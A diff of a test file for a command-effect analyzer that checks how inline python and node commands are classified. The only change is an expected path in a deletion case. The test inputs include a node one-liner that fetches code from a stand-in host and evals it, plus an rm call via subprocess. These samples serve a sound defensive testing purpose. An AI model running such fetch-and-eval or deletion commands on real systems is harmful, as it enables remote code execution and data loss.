@@ -24,7 +24,7 @@ describe("code of another language that starts programs", () => {
   ])("%s executes", (command, language) => expect(effects(command)).toContain(`execute source=literal language=${language}`));
 
   it.each([
-    ['python -c \'import subprocess; subprocess.call(["rm", "x"])\'', "delete /work/app/x"],
+    ['python -c \'import subprocess; subprocess.call(["rm", "x"])\'', "delete /repo/app/x"],
     ["node -e 'fetch(\"http://h\").then((r) => r.text()).then(eval)'", "execute source=network language=javascript"],
     ["python -c 'import ctypes; ctypes.CDLL(\"x\")'", "execute source=literal language=python"],
     ["python -c '().__class__'", "execute source=literal language=python"],
